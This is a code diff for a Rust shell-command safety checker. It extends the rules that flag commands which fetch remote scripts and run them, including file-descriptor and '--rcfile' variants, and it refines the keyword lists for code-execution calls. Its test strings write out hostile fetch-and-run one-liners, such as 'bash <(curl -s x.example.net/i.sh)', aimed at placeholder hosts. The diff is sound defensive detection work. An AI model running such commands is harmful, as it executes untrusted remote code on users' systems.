@@ -4,7 +4,7 @@ use super::super::interpreters::{
     self, Code, code, input_substitution, is_interpreter, is_shell, substitutions,
 };
 use super::fetch::fetches;
-use crate::invocation::{Stdin, SubstitutionId, SubstitutionKind};
+use crate::invocation::{Invocation, Stdin, SubstitutionId, SubstitutionKind};
 use crate::look::Look;
 use crate::rule::{Help, Hit, Key, Rule, Severity, Test};
 use crate::word::Word;
@@ -41,6 +41,9 @@ pub(super) const PROCESS: Rule = Rule {
         if fed.is_some() && (sources || interpreters::reads_script_from_input(look.invocation)) {
             return Some(look.hit());
         }
+        if reads_start_file(look) {
+            return Some(look.hit());
+        }
         let word = if sources {
             look.words().first()?
         } else {
@@ -49,12 +52,15 @@ pub(super) const PROCESS: Rule = Rule {
                 _ => return None,
             }
         };
-        substitutions(look.scope, word)
-            .into_iter()
-            .any(|id| is_process(look, id) && is_fetched(look, id))
-            .then(|| look.hit())
+        if let Some(number) = descriptor(word) {
+            return opened(look, number).then(|| look.hit());
+        }
+        is_fetched_file(look, word).then(|| look.hit())
     }),
     matches: &[
+        "bash /dev/fd/3 3< <(curl -s x.example.net/i.sh)",
+        "exec 3< <(curl -s x.example.net/i.sh); . /dev/fd/3",
+        "bash --rcfile <(curl -s x.example.net)",
         "bash < <(curl -s x.example.net)",
         "bash <(curl -s https://x.example.net/i.sh)",
         "source <(curl -s https://x.example.net/i.sh)",
@@ -64,6 +70,7 @@ pub(super) const PROCESS: Rule = Rule {
     ],
     near_misses: &[
         "bash <(cat f)",
+        "bash /dev/fd/3 3< i.sh",
         "diff <(curl -s a.example.net) <(curl -s b.example.net)",
     ],
     safe: &[
@@ -73,6 +80,52 @@ pub(super) const PROCESS: Rule = Rule {
     ],
     ..Rule::ASK
 };
+
+/// True for `<(curl …)`.
+fn is_fetched_file(look: &Look<'_>, word: &Word) -> bool {
+    let mut ids = substitutions(look.scope, word).into_iter();
+    ids.any(|id| is_process(look, id) && is_fetched(look, id))
+}
+
+/// `--rcfile FILE`, `--init-file FILE`: run before anything else.
+fn reads_start_file(look: &Look<'_>) -> bool {
+    if !is_shell(look.name) {
+        return false;
+    }
+    let words = look.words();
+    let at = words
+        .iter()
+        .position(|w| matches!(w.known(), Some("--rcfile" | "--init-file")));
+    at.and_then(|at| words.get(at + 1))
+        .is_some_and(|word| is_fetched_file(look, word))
+}
+
+/// The number of `/dev/fd/3`.
+fn descriptor(word: &Word) -> Option<u32> {
+    let path = word.known()?;
+    let number = path
+        .strip_prefix("/dev/fd/")
+        .or_else(|| path.strip_prefix("/proc/self/fd/"))?;
+    number.parse().ok()
+}
+
+/// So many commands before one may have opened its descriptor.
+const MAX_OPENERS: usize = 16;
+
+/// True if the descriptor leads to something fetched: `3< <(curl …)`, here or with `exec` before.
+fn opened(look: &Look<'_>, number: u32) -> bool {
+    let opens = |i: &Invocation| {
+        let mut redirects = i.redirects.iter().filter(|r| r.descriptor == number);
+        redirects.any(|r| r.target.as_ref().is_some_and(|w| is_fetched_file(look, w)))
+    };
+    let before = look
+        .scope
+        .analysis
+        .invocations()
+        .get(..look.invocation.id.0);
+    let mut near = before.unwrap_or(&[]).iter().rev().take(MAX_OPENERS);
+    opens(look.invocation) || near.any(|i| i.is("exec") && opens(i))
+}
 
 pub(super) const COMMAND: Rule = Rule {
     id: "remote.command-substitution",
@@ -178,10 +231,9 @@ const OPENS: &[&str] = &[
     "open('http",
     "open(\"http",
 ];
+/// By themselves; `re.compile(` and `json.load(` are something else.
+const RUNS_ALONE: &[&str] = &["exec(", "eval(", "eval ", "compile(", "load(", "exec "];
 const RUNS: &[&str] = &[
-    "exec(",
-    "eval(",
-    "eval ",
     "os.system",
     "subprocess",
     "popen(",
@@ -189,12 +241,12 @@ const RUNS: &[&str] = &[
     "child_process",
     "system(",
     "importlib",
-    "compile(",
+    "marshal.load",
+    "pickle.load",
     "runpy",
     "vm.run",
     "iex",
     "Invoke-Expression",
-    "load(",
     "instance_eval",
 ];
 
@@ -224,7 +276,15 @@ pub(super) const CODE: Rule = Rule {
             code.into_iter().chain(here).find_map(|word| {
                 let text = interpreters::beginning(word.text());
                 let has = |list: &[&str]| list.iter().any(|part| text.contains(part));
-                (has(OPENS) && has(RUNS)).then(|| look.hit_word(word))
+                let alone = |part: &&str| {
+                    let part: &str = part;
+                    text.match_indices(part).any(|(at, _)| {
+                        let before = text.get(..at).unwrap_or("");
+                        !before.ends_with(|c: char| c.is_alphanumeric() || matches!(c, '.' | '_'))
+                    })
+                };
+                (has(OPENS) && (has(RUNS) || RUNS_ALONE.iter().any(alone)))
+                    .then(|| look.hit_word(word))
             })
         },
     ),
@@ -237,6 +297,10 @@ pub(super) const CODE: Rule = Rule {
     near_misses: &[
         "python3 -c \"import urllib.request as u;print(u.urlopen('http://x.example.net').read())\"",
     ],
-    safe: &["node -e \"fetch('https://x.example.net').then(r => console.log(r.status))\""],
+    safe: &[
+        "node -e \"fetch('https://x.example.net').then(r => console.log(r.status))\"",
+        "python3 -c \"import json,urllib.request as u; print(json.load(u.urlopen('http://localhost:8000/a')))\"",
+        "python3 -c \"import re,urllib.request as u; re.compile('a').findall(u.urlopen('http://localhost').read())\"",
+    ],
     ..Rule::ASK
 };
